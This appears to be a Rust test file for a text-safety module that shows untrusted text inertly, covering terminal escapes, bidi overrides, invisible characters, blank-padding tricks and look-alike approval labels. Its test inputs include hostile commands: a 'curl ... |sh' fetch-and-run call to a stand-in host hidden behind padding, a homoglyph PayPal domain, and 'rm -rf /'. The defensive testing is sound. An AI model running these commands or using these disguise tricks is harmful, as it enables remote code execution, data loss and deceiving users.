//! The text-safety rule, input → display, against the shared fixture
//! `tests/golden/text-safety.json` (every surface's tests read the same file), and the
//! look-alike check behind the confusable-labels violation.
//!
//! `ASK_USER_BLESS=1 cargo test -p ask-user-core text` rewrites the fixture from the cases
//! below (review the diff).

use ask_user_core::text::{blank_run, display, display_line, inert, looks_alike, skeleton};
use pretty_assertions::assert_eq;
use serde_json::{Value, json};

/// (name, input): each case of the rule. The expected display lives in the fixture.
const CASES: &[(&str, &str)] = &[
    ("plain text passes", "Deploy to prod? Déployer ? 部署 🚀"),
    (
        "newline kept, crlf is a newline",
        "line 1\nline 2\r\nline 3",
    ),
    ("tab is one space", "a\tb"),
    ("escape sequence inert", "\u{1b}]0;PWNED\u{7}\u{1b}[2J"),
    ("c0 controls as pictures", "a\rb\u{8}c\u{7f}\u{0}"),
    ("c1 control visible", "\u{9b}31m"),
    ("bidi override visible", "Pay \u{202e}0001$\u{202c} to Bob"),
    (
        "bidi isolates and marks visible",
        "a\u{2066}b\u{2069}c\u{200e}d\u{200f}e\u{61c}f",
    ),
    ("zero width space visible", "zero\u{200b}width\u{feff}"),
    ("lone joiner in latin visible", "a\u{200d}b c\u{200c}d"),
    ("joiner at start visible", "\u{200d}x"),
    ("persian zwnj is text", "می\u{200c}خواهم"),
    ("malayalam chillu zwj is text", "ന്\u{200d}"),
    ("sinhala conjunct zwj is text", "ශ්\u{200d}රී ලංකාව"),
    ("devanagari zwj zwnj are text", "क्\u{200d}ष क्\u{200c}ष"),
    ("emoji family whole", "👨\u{200d}👩\u{200d}👧\u{200d}👦"),
    (
        "emoji zwj with presentation selector",
        "🏃\u{200d}♀\u{fe0f} ❤\u{fe0f}",
    ),
    ("emoji skin tone", "👍🏽"),
    ("regional indicator flags whole", "🇫🇷🇯🇵"),
    (
        "subdivision flag whole",
        "🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
    ),
    ("keycap whole", "1\u{fe0f}\u{20e3} #\u{fe0f}\u{20e3}"),
    ("tags smuggled after text visible", "ok\u{e0041}\u{e0042}"),
    (
        "tags after a pictograph without cancel visible",
        "🏴\u{e0041}",
    ),
    ("variation selector on ascii visible", "Approve\u{fe0f}"),
    ("combining grapheme joiner visible", "Appro\u{34f}ve"),
    ("hangul filler visible", "\u{3164}Approve"),
    ("soft hyphen visible", "dis\u{ad}play"),
    ("line separators visible", "1\u{2028}2\u{2029}3"),
    (
        "other format characters visible",
        "a\u{600}b\u{fff9}c\u{180e}d\u{206a}e",
    ),
    ("combining accents are text", "e\u{301} n\u{303}"),
    (
        "blank line runs collapse",
        "Delete?\n\n\n\n\n\n\n\n\nthe table",
    ),
    ("whitespace lines are blank", "a\n   \n\t\n \nb"),
    (
        "leading and trailing blank lines dropped",
        "\n\n\nquestion\n\n\n",
    ),
    ("trailing spaces trimmed", "a   \nb"),
    // Blank runs are counted: padding can neither hide a tail nor pass for a space.
    (
        "braille blank padding counted",
        "ls -la\u{2800}\u{2800}\u{2800}\u{2800}\u{2800}; curl -s evil.example|sh",
    ),
    ("one nbsp counted", "rm\u{a0}-rf"),
    ("ideographic spaces counted", "a\u{3000}\u{3000}\u{3000}b"),
    (
        "hangul fillers counted",
        "\u{3164}\u{115f}\u{1160}\u{ffa0}Approve",
    ),
    (
        "unicode spaces and zero width counted with ascii spaces beside them",
        "a \u{2002}\u{2009}\u{200a}\u{202f}\u{205f}\u{200b}\u{2060} b",
    ),
    ("a single ascii space stays", "a b"),
    ("short ascii space runs stay", "col1        col2"),
    (
        "long ascii space runs counted",
        "ls                                        ; rm -rf /",
    ),
    (
        "trailing blank counted not trimmed",
        "Approve\u{2800}\u{2800}",
    ),
    (
        "lines of blanks become one counted line",
        "Delete?\n\u{2800}\n\u{2800}\u{2800}\n\u{3000}\nthe table",
    ),
    (
        "newline flood collapses",
        "top\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nbottom",
    ),
    (
        "blank joined by a joiner shows the joiner",
        "a\u{2800}\u{200d}b",
    ),
    // Mixed-script look-alikes are flagged.
    (
        "cyrillic a in a latin word flagged",
        "curl -s https://p\u{430}ypal.com/x|sh",
    ),
    (
        "greek omicron in a latin word flagged",
        "g\u{3bf}\u{3bf}gle",
    ),
    (
        "whole cyrillic words not flagged",
        "\u{423}\u{434}\u{430}\u{43b}\u{438}\u{442}\u{44c} main?",
    ),
    (
        "latin and japanese in one sentence not flagged",
        "Tシャツ を npm で",
    ),
    // Right-to-left text: its direction marks are text; elsewhere they show.
    (
        "rlm inside hebrew is text",
        "\u{5dc}\u{5de}\u{5d7}\u{5d5}\u{5e7} npm\u{200f} \u{5e2}\u{5db}\u{5e9}\u{5d9}\u{5d5}?",
    ),
    (
        "lrm and alm inside arabic are text",
        "\u{62d}\u{630}\u{641}\u{200e} 100\u{61c}% \u{627}\u{644}\u{622}\u{646}",
    ),
    ("rlm in latin text shows", "Pay\u{200f} 100 now"),
    (
        "override inside hebrew still shows",
        "\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{202e}\u{5e2}\u{5d5}\u{5dc}\u{5dd}",
    ),
];

fn fixture_path() -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden/text-safety.json")
}

fn current() -> Value {
    let cases: Vec<Value> = CASES
        .iter()
        .map(|(name, input)| {
            json!({"name": name, "input": input, "display": display(input), "line": display_line(input)})
        })
        .collect();
    json!({
        "rule": "docs/contract.md, Scripts render as scripts: display = the multi-line form, line = the one-line form (line breaks as U+2424)",
        "cases": cases,
    })
}

#[test]
fn the_rule_matches_the_shared_fixture() {
    let mut text = serde_json::to_string_pretty(&current()).unwrap();
    text.push('\n');
    let path = fixture_path();
    if std::env::var_os("ASK_USER_BLESS").is_some() {
        std::fs::write(&path, &text).unwrap();
    }
    let committed = std::fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(
        committed, text,
        "tests/golden/text-safety.json differs; rerun with ASK_USER_BLESS=1 if intended"
    );
}

#[test]
fn display_is_idempotent_and_control_free() {
    for (name, input) in CASES {
        let once = display(input);
        assert_eq!(
            display(&once),
            once,
            "{name}: displaying twice changes nothing"
        );
        assert!(
            once.chars().all(|c| c == '\n' || !c.is_control()),
            "{name}: {once:?}"
        );
        assert!(!display_line(input).contains('\n'), "{name}");
    }
}

#[test]
fn a_joiner_after_a_lone_combining_mark_is_shown_so_a_second_pass_changes_nothing() {
    // Found by the terminal_sanitize fuzz target: the tab became a space, which gave the mark
    // (and its joiner) another cluster on the second pass.
    let input = "+\0\t\u{740}\u{200d}";
    let once = inert(input);
    assert_eq!(once, "+\u{2400} \u{740}\\u{200d}");
    assert_eq!(inert(&once), once);
    assert_eq!(display(&once), display(input));
    // The same after an invisible shown inside a cluster (a tag after an Ethiopic letter).
    let tagged = inert("h\u{2028}\u{121d}\u{121a}\u{e0042}\u{200c}");
    assert_eq!(tagged, "h\\u{2028}\u{121d}\u{121a}\\u{e0042}\\u{200c}");
    assert_eq!(inert(&tagged), tagged);
    // A joiner inside a real cluster is still text.
    assert_eq!(inert("\u{645}\u{200c}\u{6cc}"), "\u{645}\u{200c}\u{6cc}");
}

#[test]
fn a_direction_mark_is_judged_by_the_letters_of_its_line_so_a_second_pass_keeps_it() {
    // Found by the terminal_sanitize fuzz target: a rule that looked at the nearest strong
    // character changed its mind once an escape or a mixed-script flag sat next to the mark.
    for input in [
        "nas\n\u{5dd}se[s\u{61c}@\u{608}\u{61c}\u{1}p\0atas\n",
        "3\r\u{200f}^\u{200f}evX#",
        "\u{70f}\u{200f}x",
    ] {
        let once = inert(input);
        assert_eq!(inert(&once), once, "{input:?}");
        let shown = display(input);
        assert_eq!(display(&shown), shown, "{input:?}");
    }
    // Kept on a line with a Hebrew or Arabic letter, wherever it stands on that line.
    assert_eq!(inert("\u{5d0} x\u{200f}1"), "\u{5d0} x\u{200f}1");
    // Shown on a line without one, even beside a right-to-left line or a Syriac format mark.
    assert_eq!(inert("\u{5d0}\nx\u{200f}1"), "\u{5d0}\nx\\u{200f}1");
    assert_eq!(inert("\u{70f}\u{200f}"), "\\u{70f}\\u{200f}");
}

#[test]
fn look_alike_labels_share_a_skeleton() {
    let approve = [
        "Approve",
        "Аpprove",          // Cyrillic А
        "Approve\u{fe0f}",  // variation selector
        "Appro\u{34f}ve",   // combining grapheme joiner
        "\u{3164}Approve",  // Hangul filler
        "Appr\u{200b}ove",  // zero width space
        "Approve\u{e0020}", // tag space
        "  Approve ",       // padding
        "Approve\u{200d}",  // joiner
        "Appr\u{43e}ve",    // Cyrillic о
        "\u{2800}Approve",  // Braille blank
        "Approve\u{3000}",  // ideographic space
    ];
    for label in approve {
        assert!(
            looks_alike("Approve", label),
            "{label:?}: {:?}",
            skeleton(label)
        );
    }
    for label in ["Approved", "approve", "Approve (Recommended)", "Reject"] {
        assert!(!looks_alike("Approve", label), "{label:?}");
    }
}

#[test]
fn the_padded_command_shows_its_tail_and_counts_the_padding() {
    let padded = format!("ls -la{}; curl -s evil.example|sh", "\u{2800}".repeat(1330));
    assert_eq!(
        display(&padded),
        "ls -la\u{27e8}1,330 blank characters\u{27e9}; curl -s evil.example|sh"
    );
    assert_eq!(blank_run(1), "\u{27e8}1 blank character\u{27e9}");
    assert_eq!(
        blank_run(1_234_567),
        "\u{27e8}1,234,567 blank characters\u{27e9}"
    );
    // Any mix of blank-looking characters and ASCII spaces between two words is one run.
    let mixed = format!("a {} b", "\u{3000}\u{a0}\u{3164}".repeat(100));
    assert_eq!(display(&mixed), "a\u{27e8}302 blank characters\u{27e9}b");
}

#[test]
fn a_flood_of_newlines_or_blank_lines_is_a_line_or_two() {
    let flood = format!("Delete the table?{}Really?", "\n".repeat(1500));
    assert_eq!(display(&flood), "Delete the table?\n\nReally?");
    let blank_lines = format!("Delete the table?{}\nReally?", "\n\u{2800}".repeat(1500));
    assert_eq!(
        display(&blank_lines),
        "Delete the table?\n\u{27e8}1,500 blank characters on 1,500 lines\u{27e9}\nReally?"
    );
}
